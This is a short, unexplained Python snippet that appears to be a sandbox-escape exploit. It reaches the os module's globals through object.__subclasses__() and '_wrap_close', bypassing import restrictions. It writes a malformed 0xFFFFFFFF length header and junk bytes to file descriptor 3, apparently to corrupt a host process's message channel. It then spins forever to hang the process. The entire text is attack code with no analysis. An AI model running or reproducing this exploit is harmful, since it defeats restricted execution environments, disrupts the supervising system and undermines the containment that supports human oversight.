os = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__
os["write"](3, b"\xff\xff\xff\xff" + b"x" * 1000)
while True:
    pass
